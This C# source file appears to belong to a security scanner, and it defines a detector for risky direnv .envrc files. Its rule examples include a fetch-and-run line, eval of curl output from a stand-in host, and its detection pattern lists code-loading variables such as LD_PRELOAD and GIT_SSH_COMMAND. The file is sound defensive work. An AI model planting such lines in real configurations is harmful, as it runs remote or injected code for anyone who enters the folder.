using System.Text.RegularExpressions;
using ApprovalGuard.Detection.AgentConfig.Commands;
using ApprovalGuard.Detection.AgentConfig.Reading;
using ApprovalGuard.Findings;

namespace ApprovalGuard.Detection.AgentConfig.Examiners;

/// <summary>What direnv runs when somebody enters the folder.</summary>
internal sealed partial class RemoteEnvironments : IExaminer
{
    private static readonly RuleInfo Rule = new()
    {
        Id = "remote-environment",
        Category = Category.AgentConfig,
        Severity = Severity.High,
        Title = "environment from elsewhere",
        Why = "direnv runs it whenever somebody enters the folder.",
        Do = "Keep what the folder needs in the folder, or pin it by its digest.",
        Reference = "https://direnv.net/man/direnv-stdlib.1.html",
        Positives =
        [
            new("source_url \"https://x.example/direnvrc\"\n", ".envrc"),
            new("eval \"$(curl -s https://x.example/env)\"\n", ".envrc"),
            new("export GIT_SSH_COMMAND=./ssh.sh\n", ".envrc"),
        ],
        Negatives =
        [
            new("use flake\nlayout python3\nPATH_add bin\ndotenv_if_exists\n", ".envrc"),
            new("source_url \"https://raw.githubusercontent.com/nix-community/nix-direnv/3.0.4/direnvrc\" \"sha256-DzlYZ33mWF/Gs8DDeyjr8mnVmQGx7ASYqA5WlxwvBG4=\"\n", ".envrc"),
        ],
    };

    /// <inheritdoc/>
    public IReadOnlyList<RuleInfo> Rules => [Rule];

    /// <inheritdoc/>
    public IEnumerable<Remark> Look(ConfigFile file)
    {
        if (!file.IsNamed(".envrc"))
        {
            yield break;
        }

        foreach (var line in ScriptLine.AllIn(file.Content.Text))
        {
            if (CommandRisk.OfScriptLine(line.Text) is { } risk)
            {
                yield return Remark.Grave(Rule, line.ToSetting(), Severity.High, $"environment of the folder; it {risk}");
            }
            else if (line.Text.StartsWith("source_url", StringComparison.Ordinal) && !Digest().IsMatch(line.Text))
            {
                yield return Remark.Grave(Rule, line.ToSetting(), Severity.High, "environment from a URL without a digest");
            }
            else if (Loader().IsMatch(line.Text))
            {
                yield return Remark.Ordinary(Rule, line.ToSetting(), Severity.Medium, "variable that loads code");
            }
        }
    }

    [GeneratedRegex(@"sha(256|384|512)-[A-Za-z0-9+/]{40,}", RegexOptions.CultureInvariant | RegexOptions.ExplicitCapture, Effort.MostOfOneSearch)]
    private static partial Regex Digest();

    [GeneratedRegex(@"^export\s{1,3}(LD_PRELOAD|LD_AUDIT|DYLD_INSERT_LIBRARIES|BASH_ENV|PROMPT_COMMAND|GIT_SSH_COMMAND|GIT_SSH|PYTHONSTARTUP|PERL5OPT|DOTNET_STARTUP_HOOKS)=", RegexOptions.CultureInvariant | RegexOptions.ExplicitCapture, Effort.MostOfOneSearch)]
    private static partial Regex Loader();
}
